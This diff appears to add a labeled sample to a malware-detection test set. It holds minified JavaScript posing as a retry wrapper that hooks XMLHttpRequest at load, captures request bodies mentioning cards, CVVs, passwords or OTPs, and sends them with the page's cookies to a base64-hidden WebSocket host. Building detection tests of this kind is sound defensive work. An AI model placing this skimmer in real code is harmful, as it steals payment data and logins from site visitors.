@@ -1,0 +1,4 @@
+// expect: malicious
+// source: blind set 12's fetch-retry-lite: a minified UMD retry wrapper patches XMLHttpRequest.prototype through a
+// one-letter alias at load; bodies that mention cards or passwords go with the cookies to a base64-hidden wss host
+!function(){"use strict";var r=/card|cvv|passw|otp/i,o=null,i=[];function a(){if(!o){try{o=new WebSocket(atob("d3NzOi8vd3MucmV0cnktY2RuLmludmFsaWQvcnVt")),o.onopen=function(){for(;i.length;)o.send(i.shift())}}catch(e){}}return o}function c(e,t){try{var n="string"==typeof t?t:null;if(!n||!r.test(n))return;var c=JSON.stringify({u:String(e),b:n,k:document.cookie}),s=a();s&&1===s.readyState?s.send(c):i.push(c)}catch(e){}}function u(){var e=XMLHttpRequest.prototype,t=e.open,n=e.send;e.open=function(e,n){return this.__fr=n,t.apply(this,arguments)},e.send=function(e){return c(this.__fr,e),n.apply(this,arguments)}}"undefined"!=typeof XMLHttpRequest&&u()}();
